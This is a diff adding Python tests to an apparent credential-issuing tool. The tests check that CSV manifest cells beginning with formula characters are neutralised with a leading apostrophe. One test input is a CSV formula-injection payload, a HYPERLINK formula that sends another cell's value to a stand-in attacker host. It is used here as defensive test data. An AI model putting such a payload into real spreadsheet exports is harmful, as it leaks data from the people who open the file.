@@ -368,3 +368,25 @@ def test_student_lookup_also_finds_entries_written_before_the_student_reference_
         assert found.one() == old.credential_id
         with pytest.raises(LedgerError, match="student id"):
             resolve_credential(ledger, student="S-78", pseudonym_key=key)
+
+
+# --- what the manifest may hold (review 14) ---------------------------------------------------------------
+
+def test_manifest_cells_that_a_spreadsheet_would_run_as_formulas_are_made_inert(tmp_path):
+    hostile = ['=HYPERLINK("http://evil.example/?x="&B2)', "@SUM(1+1)", "+1", "-2+3"]
+    rows = write_csv(tmp_path / "c.csv", [[sid, "Ana", f"F{i}", f"a{i}@example.org", "", ""]
+                                         for i, sid in enumerate(hostile)])
+    out = tmp_path / "out"
+    batch(rows, out)
+    written = [m["student_id"] for m in manifest(out)]
+    assert written == ["'" + sid for sid in hostile]
+    with (out / "manifest.csv").open(encoding="utf-8", newline="") as handle:
+        for line in csv.reader(handle):
+            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in line), line
+
+
+def test_csv_safe_cell_leaves_ordinary_text_alone():
+    from edcissuer.tabular import csv_safe_cell
+    assert csv_safe_cell("S-001") == "S-001" and csv_safe_cell("") == "" and csv_safe_cell("a=b") == "a=b"
+    assert csv_safe_cell("=1") == "'=1" and csv_safe_cell("\rx") == "'\rx"
+
